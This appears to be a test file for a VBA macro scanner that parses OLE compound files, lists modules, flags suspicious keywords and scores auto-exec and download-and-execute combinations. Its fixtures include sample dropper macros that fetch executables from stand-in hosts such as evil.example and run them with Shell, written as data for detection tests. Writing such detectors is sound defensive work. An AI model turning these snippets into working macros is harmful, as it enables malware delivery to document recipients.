import { test } from 'node:test';
import assert from 'node:assert/strict';
import { extractVbaProjects, openCompound, parseDir, vbaFindings, vbaIndicators } from './vba.ts';
import { makeOle, makeZip, vbaProjectStreams } from './testing.ts';

const prefixed = (prefix: string, streams: Record<string, Buffer>) =>
  Object.fromEntries(Object.entries(streams).map(([k, v]) => [`${prefix}${k}`, v]));

test('modules are listed from the dir stream and their source decompressed', async () => {
  const ole = await makeOle(prefixed('Macros/', vbaProjectStreams([
    { name: 'ThisDocument', source: 'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\nEnd Sub\r\n' },
    { name: 'Helpers', stream: 'Module1', source: 'Attribute VB_Name = "Helpers"\r\nFunction Add(a, b)\r\n  Add = a + b\r\nEnd Function\r\n' },
  ])));
  const [project] = extractVbaProjects(openCompound(ole));
  assert.equal(project.storage, 'Macros');
  assert.equal(project.codePage, 1252);
  assert.deepEqual(project.errors, []);
  assert.deepEqual(project.modules.map((m) => m.name), ['ThisDocument', 'Helpers']);
  assert.match(project.modules[1].source, /Add = a \+ b/);
  assert.equal(project.modules[1].stream, 'Macros/VBA/Module1');
});

test('without a dir stream, module source is still found by its signature', async () => {
  const streams = vbaProjectStreams([{ name: 'Module1', source: 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n Shell "calc"\r\nEnd Sub\r\n' }]);
  delete streams['VBA/dir'];
  const [project] = extractVbaProjects(openCompound(await makeOle(streams)));
  assert.equal(project.storage, '');
  assert.equal(project.modules.length, 1);
  assert.match(project.modules[0].source, /Shell "calc"/);
});

test('a dir stream cut short reports it and keeps the modules read so far', () => {
  assert.equal(parseDir(Buffer.from([0x03, 0x00, 0x02, 0x00, 0x00, 0x00, 0xe4, 0x04, 0x19, 0x00, 0xff, 0x00, 0x00, 0x00, 0x41])).error?.includes('runs past'), true);
});

test('indicators: triggers in declarations, keywords by strength, Chr chains, URLs', () => {
  const chr = Array.from({ length: 30 }, (_, i) => `Chr(${65 + (i % 26)})`).join(' & ');
  const ind = vbaIndicators([
    `Private Sub Workbook_Open()\r\n  x = ${chr}\r\n  CreateObject("MSXML2.XMLHTTP").Open "GET", "http://evil.example/p.exe"\r\n  Shell x\r\nEnd Sub`,
    "' mentions AutoOpen in a comment only\r\nSub Helper()\r\nEnd Sub",
  ]);
  assert.deepEqual(ind.triggers, ['Workbook_Open']);
  const names = ind.keywords.map((k) => k.keyword);
  for (const k of ['Shell', 'XMLHTTP', 'CreateObject', 'Chr (30 calls)']) assert.ok(names.includes(k), `${k} in ${names}`);
  assert.deepEqual(ind.urls, ['http://evil.example/p.exe']);
  // WScript.Shell is its own keyword, not "Shell"
  assert.deepEqual(vbaIndicators(['Set o = CreateObject("WScript.Shell")']).keywords.map((k) => k.keyword).sort(), ['CreateObject', 'WScript.Shell']);
});

test('findings: weak calls alone score little; auto-exec + download + execute is the strong combination', () => {
  const project = (source: string) => [{ storage: '', modules: [{ name: 'M', stream: 'VBA/M', source }], errors: [] }];
  const weak = vbaFindings(project('Sub Workbook_Open()\r\n Set d = CreateObject("Scripting.Dictionary")\r\nEnd Sub'));
  assert.deepEqual(weak.map((f) => f.heuristic), ['VBA_MACROS', 'VBA_AUTOEXEC', 'VBA_SUSPICIOUS_CALL']);
  assert.equal(weak[2].score, 50);
  const dropper = vbaFindings(project('Sub AutoOpen()\r\n URLDownloadToFile 0, "http://x.example/a.exe", "a.exe", 0, 0\r\n Shell "a.exe"\r\nEnd Sub'));
  assert.deepEqual(dropper.map((f) => f.heuristic), ['VBA_MACROS', 'VBA_AUTOEXEC', 'VBA_SUSPICIOUS_CALL', 'VBA_AUTOEXEC_SUSPICIOUS', 'VBA_DOWNLOAD_EXECUTE']);
  assert.equal(vbaFindings([]).length, 0);
});

test('only compound files are opened (the cfb library would also read a zip)', async () => {
  const zip = await makeZip({ 'a.txt': Buffer.from('a') });
  assert.throws(() => openCompound(zip), /no compound file header/);
});

test('many directory entries sharing one long sector chain cost bounded time (crafted, not n × m)', async () => {
  const ole = await makeOle({ Big: Buffer.alloc(16_000_000, 0x41), ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`S${i}`, Buffer.from('x')])) });
  const dirAt = (ole.readInt32LE(0x30) + 1) * 512;
  const entries = Math.floor((ole.length - dirAt) / 128);
  let big = -1;
  for (let i = 0; i < entries; i++) if (ole.toString('utf16le', dirAt + i * 128, dirAt + i * 128 + 6) === 'Big') big = i;
  assert.ok(big >= 0);
  const start = ole.readInt32LE(dirAt + big * 128 + 116);
  // Every small stream now claims Big's 16 MB chain (31,250 sectors): 300 walks of it without a bound.
  for (let i = 0; i < entries; i++) {
    const at = dirAt + i * 128;
    if (ole[at + 66] !== 2 || i === big) continue;
    ole.writeInt32LE(start, at + 116);
    ole.writeUInt32LE(16_000_000, at + 120);
  }
  const started = Date.now();
  const c = openCompound(ole);
  assert.ok(Date.now() - started < 1000);
  assert.ok(c.damage?.some((d) => /share sectors|overlap/.test(d)), String(c.damage));
  const read = c.entries.reduce((n, e) => n + e.content.length, 0);
  assert.ok(read <= 2 * ole.length + 1024 * 1024, `${read} bytes read from a ${ole.length}-byte file`);
});
